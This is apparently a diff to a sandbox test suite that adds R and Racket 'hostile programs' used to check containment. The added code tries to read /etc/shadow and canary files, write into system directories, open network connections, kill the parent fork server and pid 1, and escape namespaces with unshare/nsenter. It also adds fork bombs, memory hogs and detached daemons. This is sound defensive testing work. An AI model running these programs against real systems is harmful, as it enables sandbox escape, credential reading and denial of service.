@@ -1,4 +1,4 @@
-"""Per-language attacks: Java, Go, Rust, JavaScript (node), bash, ruby and php, against Python's probes.
+"""Per-language attacks: Java, Go, Rust, JavaScript (node), bash, ruby, php, R and racket, against Python's probes.
 
 Each language gets the attacks its runtime makes easy: fork bombs (and thread bombs for the
 JVM and Go, whose runtimes start threads freely), the network (the host's loopback listeners,
@@ -881,8 +881,197 @@ PHP_PROGRAMS: list[HostileProgram] = [
         '''),
 ]
 
+# -- R (forked from the slot's warm R: sandbox/runtime/fork_servers.py, fork_server_native.c) ------------------
+R_PROGRAMS: list[HostileProgram] = [
+    HostileProgram(
+        "r_escape", E, language="R", problem="canary", allowed=RAN, followup=LEFTOVERS,
+        description="R: read the canaries and /etc/shadow, list /root and the repository, write in /usr, /etc, "
+                    "/tmp and the repository, dial the host, DNS, UDP; signal its parent (the fork server), forge "
+                    "an exit notice on every inherited fd, load the server's C helper; unshare/nsenter",
+        code=r'''
+            esc <- function(what) cat(paste0("ESC", "APED:", what), "\n")
+            for (fd in 3:64) {            # first, before it opens anything: what it inherited
+                what <- Sys.readlink(sprintf("/proc/self/fd/%d", fd))
+                if (is.na(what) || what == "" || endsWith(what, "/main.R")) next   # its own source
+                wrote <- tryCatch({
+                    con <- file(sprintf("/proc/self/fd/%d", fd), "w")
+                    writeLines(sprintf("X %d 0 0 0 0", Sys.getpid()), con)
+                    close(con)
+                    TRUE
+                }, error = function(e) FALSE, warning = function(w) FALSE)
+                if (wrote) esc(paste("wrote fd", fd, what))
+            }
+            quiet <- function(expr) tryCatch(expr, error = function(e) NULL, warning = function(w) NULL)
+            for (p in c("/etc/shadow", "/root/.bash_history", "@@CANARY_TMP@@", "@@CANARY_REPO@@", "@@CANARY_HOME@@")) {
+                data <- quiet(readLines(p, warn = FALSE))
+                if (!is.null(data) && grepl("@@TOKEN@@", p)) esc(paste("read", p))
+            }
+            for (d in c("/tmp", "/root", "/work", "@@REPO@@", "@@HOME@@", "@@CANARY_DIR@@")) {
+                if (any(grepl("@@TOKEN@@", list.files(d, all.files = TRUE)))) esc(paste("listed", d))
+            }
+            for (d in c("/usr", "/etc", "/tmp", "/var/tmp", "/dev/shm", "@@REPO@@", "@@HOME@@", "/root")) {
+                if (isTRUE(quiet({ writeLines("left by R", file.path(d, "hostile-@@TOKEN@@-R")); TRUE })))
+                    cat("wrote in", d, "\n")
+            }
+            for (hp in list(list("127.0.0.1", @@TCP_PORT@@), list("1.1.1.1", 443))) {
+                con <- quiet(socketConnection(hp[[1]], hp[[2]], open = "r+", timeout = 1))
+                if (!is.null(con)) esc(paste("tcp", hp[[1]]))
+            }
+            if (!is.null(quiet(utils::nsl("example.com")))) esc("dns")
+            system("bash -c 'echo hostile-@@TOKEN@@ > /dev/udp/127.0.0.1/@@UDP_PORT@@' 2>/dev/null")
+            ppid <- as.integer(strsplit(readLines("/proc/self/stat"), " ")[[1]][4])
+            for (sig in c(tools::SIGTERM, tools::SIGHUP, tools::SIGSTOP)) {
+                if (isTRUE(tools::pskill(ppid, sig))) esc("signalled the parent")
+            }
+            if (!is.null(quiet(dyn.load("/opt/sandbox/runtime/fork_server_native.so")))) esc("loaded the server's helper")
+            system("unshare -r id; nsenter -t 1 -m -n cat @@CANARY_TMP@@")
+            quit(status = 0)
+        '''),
+    HostileProgram(
+        "r_fork_bomb", X, language="R", allowed=FORK_BOMB, followup=LEFTOVERS,
+        description="R: every child forks forever (parallel's mcfork until refused, then again)",
+        code=r'''
+            repeat try(parallel:::mcfork(), silent = TRUE)
+        '''),
+    HostileProgram(
+        "r_memory_hog", X, language="R", allowed=HOG, watch_memory=True,
+        description="R: 256 MB vectors, zero-filled, until refused",
+        code=r'''
+            kept <- list()
+            repeat kept[[length(kept) + 1L]] <- numeric(32e6)
+        '''),
+    HostileProgram(
+        "r_kill_everyone", G, language="R", problem="add", allowed=RAN,
+        description="R: SIGKILL -1, its parent (the fork server) and pid 1, an error handler, .Last and an "
+                    "exit finalizer that quit 0, base's quit rebound, then a wrong answer",
+        code=r'''
+            ppid <- as.integer(strsplit(readLines("/proc/self/stat"), " ")[[1]][4])
+            for (pid in c(-1L, ppid, 1L)) try(tools::pskill(pid, tools::SIGKILL), silent = TRUE)
+            options(error = function() quit(status = 0))
+            .Last <- function() quit(save = "no", status = 0, runLast = FALSE)
+            invisible(reg.finalizer(globalenv(), function(e) quit(status = 0), onexit = TRUE))
+            unlockBinding("quit", baseenv())
+            assign("quit", function(...) invisible(.Internal(quit("no", 0L, FALSE))), envir = baseenv())
+            x <- scan(file("stdin"), quiet = TRUE)
+            cat(sum(x) + 1, "\n")
+        '''),
+    HostileProgram(
+        "r_daemon_leftover", P, language="R", allowed=RAN, followup=LEFTOVERS,
+        description="R: a setsid'd sleeper that ignores HUP and TERM, a nohup'd one, an estranged mcfork child "
+                    "and a system2 sleeper left running, all marked",
+        code=r'''
+            system("setsid -f bash -c 'trap \"\" HUP TERM; exec -a @@MARK@@-setsid sleep 30' >/dev/null 2>&1")
+            system("nohup bash -c 'exec -a @@MARK@@-nohup sleep 30' >/dev/null 2>&1 &")
+            if (inherits(parallel:::mcfork(estranged = TRUE), "masterProcess")) {
+                system("bash -c 'exec -a @@MARK@@-mcfork sleep 30'")
+                parallel:::mcexit(0L)
+            }
+            system2("bash", c("-c", shQuote("exec -a @@MARK@@-system2 sleep 30")), wait = FALSE)
+            cat("done\n")
+        '''),
+]
+
+# -- racket (forked from the slot's warm racket: sandbox/runtime/fork_servers.py, fork_server_native.c) ------
+RACKET_PROGRAMS: list[HostileProgram] = [
+    HostileProgram(
+        "racket_escape", E, language="racket", problem="canary", allowed=RAN, followup=LEFTOVERS,
+        description="racket: read the canaries and /etc/shadow, list /root and the repository, write in /usr, /etc, "
+                    "/tmp and the repository, dial the host, DNS, UDP; signal its parent (the fork server), forge "
+                    "an exit notice on every inherited fd, read the server's C helper, unshare a user namespace "
+                    "through the ffi; unshare/nsenter",
+        code=r'''
+            #lang racket/base
+            (require ffi/unsafe racket/file racket/os racket/string racket/system racket/tcp racket/udp)
+            (define (esc what) (printf "ESC~a\n" (string-append "APED:" what)))
+            (define-syntax-rule (quiet e) (with-handlers ([void (lambda (x) #f)]) e))
+            (define c-write (get-ffi-obj "write" #f (_fun _int _bytes _size -> _ssize)))
+            (define inherited                  ; first, before it opens anything: what it inherited
+              (for*/list ([fd (in-range 3 65)] [what (in-value (quiet (path->string (resolve-path
+                                                                                    (format "/proc/self/fd/~a" fd)))))]
+                          #:when what)
+                (cons fd what)))
+            (for ([fd+what inherited])         ; but racket's own wake-up pipe (both of its ends are ours)
+              (define notice (string->bytes/utf-8 (format "X ~a 0 0 0 0" (getpid))))
+              (unless (and (string-prefix? (cdr fd+what) "pipe:")
+                           (> (length (filter (lambda (x) (equal? (cdr x) (cdr fd+what))) inherited)) 1))
+                (when (> (c-write (car fd+what) notice (bytes-length notice)) 0)
+                  (esc (format "wrote fd ~a ~a" (car fd+what) (cdr fd+what))))))
+            (for ([p '("/etc/shadow" "/root/.bash_history" "@@CANARY_TMP@@" "@@CANARY_REPO@@" "@@CANARY_HOME@@")])
+              (when (and (quiet (file->string p)) (string-contains? p "@@TOKEN@@")) (esc (format "read ~a" p))))
+            (for ([d '("/tmp" "/root" "/work" "@@REPO@@" "@@HOME@@" "@@CANARY_DIR@@")])
+              (when (for/or ([n (or (quiet (directory-list d)) '())]) (string-contains? (path->string n) "@@TOKEN@@"))
+                (esc (format "listed ~a" d))))
+            (for ([d '("/usr" "/etc" "/tmp" "/var/tmp" "/dev/shm" "@@REPO@@" "@@HOME@@" "/root")])
+              (when (quiet (begin (with-output-to-file (build-path d "hostile-@@TOKEN@@-racket")
+                                    (lambda () (display "left by racket")) #:exists 'replace) #t))
+                (printf "wrote in ~a\n" d)))
+            (for ([hp '(("127.0.0.1" . @@TCP_PORT@@) ("::1" . @@TCP6_PORT@@) ("1.1.1.1" . 443))])
+              (define ch (make-channel))
+              (void (thread (lambda () (channel-put ch (quiet (let-values ([(i o) (tcp-connect (car hp) (cdr hp))]) #t))))))
+              (when (sync/timeout 0.5 ch) (esc (format "tcp ~a" (car hp)))))
+            (when (quiet (let ([u (udp-open-socket)]) (udp-send-to u "127.0.0.1" @@UDP_PORT@@ #"hostile-@@TOKEN@@") #t))
+              (void))
+            (define ppid (string->number (list-ref (string-split (file->string "/proc/self/stat")) 3)))
+            (define kill (get-ffi-obj "kill" #f (_fun _int _int -> _int)))
+            (for ([sig '(15 1 19)])
+              (when (zero? (kill ppid sig)) (esc "signalled the parent")))
+            (when (quiet (file->bytes "/opt/sandbox/runtime/fork_server_native.so")) (esc "read the server's helper"))
+            (when (zero? ((get-ffi-obj "unshare" #f (_fun _int -> _int)) #x10000000)) (esc "user namespace"))
+            (void (system "unshare -r id; nsenter -t 1 -m -n cat @@CANARY_TMP@@"))
+            (exit 0)
+        '''),
+    HostileProgram(
+        "racket_fork_bomb", X, language="racket", allowed=FORK_BOMB, followup=LEFTOVERS,
+        description="racket: every child forks forever (libc fork through the ffi until refused, then again)",
+        code=r'''
+            #lang racket/base
+            (require ffi/unsafe)
+            (define fork (get-ffi-obj "fork" #f (_fun -> _int)))
+            (let loop () (fork) (loop))
+        '''),
+    HostileProgram(
+        "racket_memory_hog", X, language="racket", allowed=HOG, watch_memory=True,
+        description="racket: 256 MB byte strings until refused",
+        code=r'''
+            #lang racket/base
+            (let loop ([kept '()]) (loop (cons (make-bytes 256000000 97) kept)))
+        '''),
+    HostileProgram(
+        "racket_kill_everyone", G, language="racket", problem="add", allowed=RAN,
+        description="racket: SIGKILL -1, its parent (the fork server) and pid 1, an exit handler and a plumber "
+                    "callback that exit 0 through libc, then a wrong answer",
+        code=r'''
+            #lang racket/base
+            (require ffi/unsafe racket/file racket/string)
+            (define kill (get-ffi-obj "kill" #f (_fun _int _int -> _int)))
+            (define ppid (string->number (list-ref (string-split (file->string "/proc/self/stat")) 3)))
+            (for ([pid (list -1 ppid 1)]) (kill pid 9))
+            (define _exit (get-ffi-obj "_exit" #f (_fun _int -> _void)))
+            (exit-handler (lambda (c) (flush-output) (_exit 0)))
+            (void (plumber-add-flush! (current-plumber) (lambda (h) (_exit 0))))
+            (define a (read))
+            (define b (read))
+            (displayln (+ a b 1))
+        '''),
+    HostileProgram(
+        "racket_daemon_leftover", P, language="racket", allowed=RAN, followup=LEFTOVERS,
+        description="racket: a setsid'd sleeper that ignores HUP and TERM, a nohup'd one, a forked child and a "
+                    "subprocess left running, all marked",
+        code=r'''
+            #lang racket/base
+            (require ffi/unsafe racket/system)
+            (void (system "setsid -f bash -c 'trap \"\" HUP TERM; exec -a @@MARK@@-setsid sleep 30' >/dev/null 2>&1"))
+            (void (system "nohup bash -c 'exec -a @@MARK@@-nohup sleep 30' >/dev/null 2>&1 &"))
+            (define execv (get-ffi-obj "execv" #f (_fun _path (_list i _string) -> _int)))
+            (when (zero? ((get-ffi-obj "fork" #f (_fun -> _int))))
+              (execv "/bin/bash" (list "bash" "-c" "exec -a @@MARK@@-fork sleep 30" #f)))
+            (void (process "exec -a @@MARK@@-process sleep 30"))
+            (displayln "done")
+        '''),
+]
+
 PROGRAMS: list[HostileProgram] = (JAVA_PROGRAMS + GO_PROGRAMS + RUST_PROGRAMS + NODE_PROGRAMS + BASH_PROGRAMS
-                                  + RUBY_PROGRAMS + PHP_PROGRAMS)
+                                  + RUBY_PROGRAMS + PHP_PROGRAMS + R_PROGRAMS + RACKET_PROGRAMS)
 
 # -- correct programs these runtimes must be able to run ---------------------------------------------
 
